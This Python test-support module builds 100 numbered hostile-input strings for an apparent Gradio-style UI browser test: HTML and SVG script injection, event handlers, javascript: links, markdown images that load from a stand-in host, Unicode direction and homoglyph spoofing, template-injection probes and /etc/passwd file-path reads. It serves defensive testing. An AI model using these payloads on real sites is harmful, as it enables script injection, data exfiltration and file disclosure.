"""100 texts that try to become something else than text, for a host of one's own and with a number each.

What one of them may do is call ``ta(n)``, ask ``host`` for something, or become a link. ``tests/ui/test_browser_hostile.py``
first shows that they do so on a page without defence.
"""

from __future__ import annotations

import re
from typing import Final

_MARKUP: Final = (
    "<script>ta(N)</script>",
    "<ScRiPt>ta(N)</sCrIpT>",
    "<script src=https://HOST/N.js></script>",
    '<script type="module">ta(N)</script>',
    "</p></div></section><script>ta(N)</script>",
    "</title></textarea></style><script>ta(N)</script>",
    "<!--><script>ta(N)</script-->",
    "<![CDATA[><script>ta(N)</script>]]>",
    "<scr<script>ipt>ta(N)</scr</script>ipt>",
    '<img src=x onerror="ta(N)">',
    "<img src=https://HOST/N.png>",
    "<img srcset='https://HOST/N.png 2x'>",
    "<picture><source srcset=https://HOST/N.png><img></picture>",
    "<img/src/onerror=ta(N)>",
    "<img src='x' onerror=&#116;a(N)>",
    "<image href=https://HOST/N.png onerror=ta(N)>",
    "<svg/onload=ta(N)>",
    "<svg><script>ta(N)</script></svg>",
    "<svg><image href=https://HOST/N.svg /></svg>",
    "<svg><use href='https://HOST/N.svg#x'/></svg>",
    "<svg><a href='javascript:ta(N)'><text y=20>tryck</text></a></svg>",
    "<svg><animate onbegin=ta(N) attributeName=x dur=1s>",
    "<math><mtext></p><script>ta(N)</script></mtext></math>",
    "<iframe src='https://HOST/N'></iframe>",
    "<iframe srcdoc='<script>parent.ta(N)</script>'></iframe>",
    "<iframe src='javascript:parent.ta(N)'></iframe>",
    "<object data='https://HOST/N.swf'></object>",
    "<embed src='https://HOST/N.pdf'>",
    "<link rel=stylesheet href=https://HOST/N.css>",
    "<link rel=prefetch href=https://HOST/N>",
    "<style>@import url(https://HOST/N.css);</style>",
    "<style>*{display:none}body{background:url(https://HOST/N.png)}</style>",
    "<div style='background-image:url(https://HOST/N.png)'>x</div>",
    "<base href='https://HOST/N/'>",
    "<meta http-equiv=refresh content='9;url=https://HOST/N'>",
    "<form action='https://HOST/N'><button>Skicka</button></form>",
    "<button formaction='javascript:ta(N)' form=x>Skicka</button>",
    "<input autofocus onfocus=ta(N)>",
    "<details open ontoggle=ta(N)><summary>x</summary></details>",
    "<video src=https://HOST/N.mp4 onerror=ta(N)></video>",
    "<video poster=https://HOST/N.png></video>",
    "<audio src=https://HOST/N.mp3 onerror=ta(N)></audio>",
    "<body onload=ta(N)>",
    "<marquee onstart=ta(N)>x</marquee>",
    "<a href='https://HOST/N'>Ansök här</a>",
    "</mark><a href=//HOST/N>klicka</a>",
    "<a href=\"javascript:ta(N)\">klicka</a>",
    "<a href='&#106;avascript:ta(N)'>klicka</a>",
    "<a href='java\tscript:ta(N)'>klicka</a>",
    "<a href='data:text/html,<script>ta(N)</script>'>klicka</a>",
    "<a href='vbscript:ta(N)'>klicka</a>",
    "<a ping=https://HOST/N href=/>klicka</a>",
    "<area href='https://HOST/N'>",
    '" onmouseover="ta(N)" autofocus onfocus="ta(N)" x="',
    "' onfocus='ta(N)' autofocus tabindex='1",
    "--><img src=x onerror=ta(N)><!--",
    "<template><img src=https://HOST/N.png></template>",
    "<dialog open><a href=https://HOST/N>Logga in</a></dialog>",
    "&lt;script&gt;ta(N)&lt;/script&gt;",
    "&#60;img src=https://HOST/N.png&#62;",
)  # fmt: skip
_MARKDOWN: Final = (
    "![bild](https://HOST/N.png)",
    "![bild](//HOST/N.png)",
    "![bild](https://HOST/N.png 'titel')",
    "![bild][n] [n]: https://HOST/N.png",
    "[![bild](https://HOST/N.png)](https://HOST/N)",
    "[länk](https://HOST/N)",
    "[länk](javascript:ta(N))",
    "[länk](JaVaScRiPt:ta(N))",
    "[länk](data:text/html;base64,PHNjcmlwdD50YSgpPC9zY3JpcHQ+)",
    "[länk](<javascript:ta(N)>)",
    "<https://HOST/N>",
    "https://HOST/N?fraga=hemligt",
    "www.HOST/N",
    "[x](https://HOST/N \"onmouseover=ta(N)\")",
    "[a]: javascript:ta(N) [a]",
    "```html <img src=https://HOST/N.png onerror=ta(N)> ```",
    "| a | ![b](https://HOST/N.png) |",
    "**<img src=x onerror=ta(N)>** _<b>_ ~~x~~",
    "# Rubrik [N](https://HOST/N)",
    "> [!WARNING] <a href=https://HOST/N>Logga in igen</a>",
)  # fmt: skip
_LETTERS: Final = (
    "\N{RIGHT-TO-LEFT OVERRIDE}<img src=x onerror=ta(N)>",
    "ansok\N{RIGHT-TO-LEFT OVERRIDE}fdp.exe https://HOST/N",
    "<\N{ZERO WIDTH SPACE}img src=x onerror=ta(N)>",
    "<img\N{NO-BREAK SPACE}src=https://HOST/N.png>",
    "java\N{SOFT HYPHEN}script:ta(N)",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}ta(N)",
    "https://\N{CYRILLIC SMALL LETTER O}rebr\N{CYRILLIC SMALL LETTER O}.HOST/N",
    "\N{LEFT-TO-RIGHT ISOLATE}[länk](https://HOST/N)\N{POP DIRECTIONAL ISOLATE}",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{constructor.constructor('ta(N)')()}}",
    "${ta(N)} #{ta(N)} <%= ta(N) %>",
    "{{7*7}}{% import os %}{{config}} https://HOST/N",
    "$$\\href{javascript:ta(N)}{x}$$ \\(\\url{https://HOST/N}\\)",
    "$$\\includegraphics{https://HOST/N.png}$$",
    "```mermaid graph TD; a-->b; click a \"javascript:ta(N)\" ```",
    "<gradio-app src=https://HOST/N></gradio-app>",
    "![fil](/gradio_api/file=/etc/passwd?N)",
    "<img src='/gradio_api/file=/etc/passwd?N'>",
    '{"path": "/etc/passwd", "url": "https://HOST/N", "meta": {"_type": "gradio.FileData"}}',
    "<script>window.gradio_config.root='https://HOST/N'</script>",
    "${'{'}fetch('https://HOST/N'){'}'}",
)  # fmt: skip


def payloads(host: str) -> tuple[str, ...]:
    """The hundred of them, numbered, for one host."""
    every = (*_MARKUP, *_MARKDOWN, *_LETTERS, *_TEMPLATES)
    return tuple(re.sub(r"\bN\b", str(number), text.replace("HOST", host)) for number, text in enumerate(every))
